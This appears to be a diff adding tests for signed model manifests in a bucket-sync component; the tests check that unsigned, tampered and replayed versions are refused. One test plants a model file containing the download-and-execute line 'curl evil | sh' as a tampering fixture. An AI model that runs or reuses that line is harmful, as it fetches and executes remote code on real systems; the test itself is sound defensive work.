@@ -12,15 +12,20 @@ from __future__ import annotations
 import os
 import random
 import subprocess
+import sys
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from mlplatform_client import signing
 
+from components import model_signature
 from components.model_sync.rclone import publish_script
 from components.rclone import (
     MARKER,
+    SIGNATURE,
+    WAIT_MANIFEST_DIR,
     WAIT_POLL_SECONDS,
     WAIT_REPOSITORY,
     WAIT_SECONDS,
@@ -47,6 +52,7 @@ class Buckets:
 
     workdir: Path
     remotes: dict[str, Remote]
+    public_key: str = ""
 
     def env(self, cloud: str, **extra: str) -> dict[str, str]:
         scrubbed = {
@@ -72,7 +78,7 @@ class Buckets:
         )
         assert done.returncode == 0, done.stderr
 
-    def publish(self, cloud: str, version: str, seed: int) -> None:
+    def publish(self, cloud: str, version: str, seed: int, *, signed: bool = True) -> None:
         """Files, verified, then the marker last: the publisher's script (the sync writes replicas the same way)."""
         local = self.workdir / "local" / cloud / version
         generator = random.Random(seed)
@@ -81,13 +87,48 @@ class Buckets:
             (local / name).write_bytes(generator.randbytes(64 * 1024))
         done = subprocess.run(
             ["sh", str(self.workdir / "publish.sh"), str(local), f"{self.remotes[cloud].root}/{version}"],
-            env=self.env(cloud),
+            env=self.env(cloud, **(self.signer() if signed else {})),
             capture_output=True,
             text=True,
             timeout=90,
             check=False,
         )
         assert done.returncode == 0, done.stderr
+
+    def signer(self) -> dict[str, str]:
+        """The publisher's key and the client's signing command (mlplatform_client.signing)."""
+        return {
+            "MODEL_SIGNING_KEY": str(self.workdir / "publisher.pem"),
+            "MODEL_SIGNER": f"{sys.executable} -m mlplatform_client.signing",
+        }
+
+    def manifests(self, cloud: str, version: str) -> Path:
+        """The pod's emptyDir shared by wait-for-model and verify-model."""
+        folder = self.workdir / "manifests" / cloud / version
+        folder.mkdir(parents=True, exist_ok=True)
+        return folder
+
+    def verify(self, cloud: str, version: str) -> subprocess.CompletedProcess[str]:
+        """The pod's verify-model step: components/model_signature.py with the standard library only (-I -S: no
+        site packages, as in the python image), on what wait-for-model copied."""
+        folder = self.manifests(cloud, version)
+        return subprocess.run(
+            [
+                sys.executable,
+                "-I",
+                "-S",
+                str(self.workdir / "model_signature.py"),
+                "version",
+                self.public_key,
+                version,
+                str(folder / MARKER),
+                str(folder / SIGNATURE),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=60,
+            check=False,
+        )
 
     def wait_env(self, cloud: str, version: str, seconds: int) -> dict[str, str]:
         return self.env(
@@ -97,6 +138,7 @@ class Buckets:
                 WAIT_REPOSITORY: f"{SHOWN[cloud]}/{version}",
                 WAIT_SECONDS: str(seconds),
                 WAIT_POLL_SECONDS: "1",
+                WAIT_MANIFEST_DIR: str(self.manifests(cloud, version)),
             },
         )
 
@@ -125,7 +167,10 @@ def buckets(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Buckets]:
             "azure": azure_remote(READER_REMOTE, AZURITE_ACCOUNT, "models", emulators.azure_auth()),
         }
         (workdir / "publish.sh").write_text(publish_script())
-        state = Buckets(workdir, remotes)
+        (workdir / "model_signature.py").write_text(model_signature.script())
+        private, public = signing.generate_key()
+        (workdir / "publisher.pem").write_bytes(private)
+        state = Buckets(workdir, remotes, public)
         state.rclone("azure", "mkdir", remotes["azure"].root)  # the container (ModelBucket makes it in a cluster)
         yield state
 
@@ -224,3 +269,58 @@ def test_the_readers_rclone_options_are_options_of_rclone() -> None:
     assert unknown_rclone_options(cluster) == set()
     assert [remote.options for remote in cluster[1:]] == [remote.options for remote in test[1:]]
     assert cluster[0].options.keys() == test[0].options.keys()
+
+
+@pytest.mark.parametrize("cloud", CLOUDS)
+def test_a_signed_version_passes_the_signature_check(buckets: Buckets, cloud: str) -> None:
+    buckets.publish(cloud, "ranker/v6", seed=6)
+    assert buckets.wait(cloud, "ranker/v6").returncode == 0
+    done = buckets.verify(cloud, "ranker/v6")
+    assert (done.returncode, done.stdout) == (0, "verify-model: ranker/v6: signature good\n"), done.stderr
+
+
+@pytest.mark.parametrize("cloud", CLOUDS)
+def test_a_planted_file_with_a_rewritten_manifest_is_refused(buckets: Buckets, cloud: str) -> None:
+    """Someone who can write the bucket but has no signing key swaps a file and rewrites the manifest to match:
+    the files match the marker (the wait passes) and the signature check refuses it before Triton starts."""
+    buckets.publish(cloud, "ranker/v7", seed=7)
+    root = f"{buckets.remotes[cloud].root}/ranker/v7"
+    planted = buckets.workdir / "planted" / cloud
+    planted.mkdir(parents=True)
+    (planted / "model.py").write_bytes(b"import os; os.system('curl evil | sh')\n")
+    buckets.rclone(cloud, "copyto", str(planted / "model.py"), f"{root}/ranker/1/model.py")
+    manifest = planted / MARKER
+    manifest.write_bytes(
+        subprocess.run(
+            ["rclone", "md5sum", root, "--exclude", f"/{MARKER}", "--exclude", f"/{SIGNATURE}"],
+            env=buckets.env(cloud),
+            capture_output=True,
+            check=True,
+        ).stdout
+    )
+    buckets.rclone(cloud, "copyto", str(manifest), f"{root}/{MARKER}")
+    assert buckets.wait(cloud, "ranker/v7").returncode == 0
+    done = buckets.verify(cloud, "ranker/v7")
+    assert done.returncode == 1
+    assert done.stdout == (
+        "verify-model: ranker/v7: refused: its manifest's signature does not verify with the stack's public key\n"
+    )
+
+
+@pytest.mark.parametrize("cloud", CLOUDS)
+def test_an_unsigned_version_is_refused(buckets: Buckets, cloud: str) -> None:
+    buckets.publish(cloud, "ranker/v8", seed=8, signed=False)
+    assert buckets.wait(cloud, "ranker/v8").returncode == 0
+    done = buckets.verify(cloud, "ranker/v8")
+    assert done.returncode == 1
+    assert done.stdout == "verify-model: ranker/v8: refused: its manifest or signature is missing\n"
+
+
+def test_a_signed_version_copied_under_another_path_is_refused(buckets: Buckets) -> None:
+    """A good manifest and signature replayed at another path (an old version served as a new one)."""
+    buckets.publish("gcp", "ranker/v9", seed=9)
+    root = buckets.remotes["gcp"].root
+    buckets.rclone("gcp", "copy", f"{root}/ranker/v9", f"{root}/ranker/v10")
+    assert buckets.wait("gcp", "ranker/v10").returncode == 0
+    done = buckets.verify("gcp", "ranker/v10")
+    assert done.returncode == 1 and "does not verify" in done.stdout
